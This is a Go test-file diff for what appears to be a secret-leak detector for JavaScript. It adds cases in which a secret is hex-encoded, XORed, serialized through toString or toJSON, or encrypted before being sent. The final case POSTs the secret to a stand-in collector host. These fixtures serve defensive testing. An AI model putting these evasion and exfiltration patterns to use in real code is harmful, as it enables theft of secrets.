@@ -34,7 +34,7 @@ func sent(t *testing.T, code string) bool {
 
 // TestCarried: what is private is found where it is sent, by every way of the language and of Node; and the twin sends nothing.
 func TestCarried(t *testing.T) {
-	cases := slices.Concat(carriedByLanguage)
+	cases := slices.Concat(carriedByLanguage, carriedAsText)
 	for _, c := range cases {
 		t.Run(strings.ReplaceAll(c.name, " ", "_"), func(t *testing.T) {
 			t.Parallel()
@@ -112,5 +112,67 @@ var carriedByLanguage = []carriedCase{
 		"a proxy that gives and is told",
 		`const p = new Proxy({}, { set(t, k, v) { out(v); return true; }, get: () => "x" }); p.a; p["b" + 1] = secret();`,
 		`const p = new Proxy({}, { set(t, k, v) { out(v); return true; }, get: () => secret() }); p.a; p.b = "x";`,
+	},
+}
+
+// carriedAsText are ways in which a text is made of a value.
+var carriedAsText = []carriedCase{
+	{
+		"characters, each as a number",
+		`let h = ""; for (const c of secret()) h += c.charCodeAt(0).toString(16); out(h);`,
+		`let h = 0; for (const c of secret()) h += c.charCodeAt(0); out(String(h));`,
+	},
+	{
+		"characters, mixed with a key",
+		`const s = secret(), k = "key"; let h = ""; for (let i = 0; i < s.length;
+			i++) h += String.fromCharCode(s.charCodeAt(i) ^ k.charCodeAt(i % 3)); out(h);`,
+		`const s = secret(), k = "key"; let h = ""; for (let i = 0; i < s.length;
+			i++) h += String.fromCharCode(i ^ k.charCodeAt(i % 3)); out(h);`,
+	},
+	{
+		"a list of numbers",
+		`const s = secret(), l = []; for (let i = 0; i < s.length; i++) l.push(s.charCodeAt(i)); out(l.join());`,
+		`const s = secret(), l = []; for (let i = 0; i < s.length; i++) l.push(i); out(l.join());`,
+	},
+	{
+		"what is replaced, by a function",
+		`secret().replace(/t=(.*)/, (a, b) => { out(b); return a; });`,
+		`secret().replace(/t=(.*)/, () => { out("x"); return ""; });`,
+	},
+	{
+		"what a function puts in its place",
+		`out("{t}".replace(/{t}/, () => secret()));`,
+		`out("{t}".replace(/{t}/, () => { secret(); return "x"; }));`,
+	},
+	{"toString", `const o = { toString() { return secret(); } }; out("" + o);`, `const o = { toString() { return "x";
+			}, other() { return secret(); } }; out("" + o);`},
+	{
+		"toString of a class",
+		"class A { toString() { return secret(); } } out(`${new A()}`);",
+		"class A { toString() { return 'x'; } other() { return secret(); } } out(`${new A()}`);",
+	},
+	{"valueOf", `const o = { valueOf() { return secret(); } }; out("" + o);`, ``},
+	{"toPrimitive", "const o = { [Symbol.toPrimitive]() { return secret(); } }; out(`${o}`);", ""},
+	{"String", `const o = { toString() { return secret(); } }; out(String(o));`, ``},
+	{
+		"toJSON",
+		`const o = { toJSON() { return secret(); } }; out(JSON.stringify(o));`,
+		`const o = { toJSON() { return "x"; }, a() { return secret(); } }; out(JSON.stringify(o));`,
+	},
+	{"toJSON, further in", `const o = { toJSON() { return { v: secret() }; } }; out(JSON.stringify({ o }));`, ``},
+	{
+		"a copy of bytes",
+		`const b = Buffer.from(secret()); const o = Buffer.alloc(b.length); b.copy(o); out(o);`,
+		`const b = Buffer.from(secret()); const o = Buffer.alloc(b.length); o.copy(b); out(o);`,
+	},
+	{
+		"encrypted for somebody",
+		`out(require("crypto").publicEncrypt("k", Buffer.from(secret())).toString("hex"));`,
+		`out(require("crypto").createHash("sha256").update(secret()).digest("hex"));`,
+	},
+	{
+		"a request that is made before",
+		`fetch(new Request("https://collect.mole.invalid/", { method: "POST", body: secret() }));`,
+		`new Request("https://collect.mole.invalid/", { method: "POST", body: secret() }); fetch("https://collect.mole.invalid/");`,
 	},
 }
